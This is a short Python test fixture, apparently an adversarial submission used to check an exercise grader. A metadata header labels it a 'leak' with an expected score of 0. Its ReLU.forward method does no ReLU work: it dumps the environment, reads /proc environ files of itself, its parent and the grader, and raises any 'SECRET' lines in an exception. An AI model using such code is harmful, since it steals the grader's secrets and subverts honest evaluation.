# kind = "leak"
# does = "reads the environment of the grader, of its parent and of its own"
# exercise = "relu"
# outcome = "raised"
# score = 0
# open_at = ["process"]

import os


class ReLU:
    def forward(self, x):
        print(dict(os.environ))
        text = ""
        for pid in ("self", os.getppid(), {{grader_pid}}):
            text += open(f"/proc/{pid}/environ").read().replace(chr(0), chr(10))
        raise RuntimeError([line for line in text.splitlines() if "SECRET" in line])
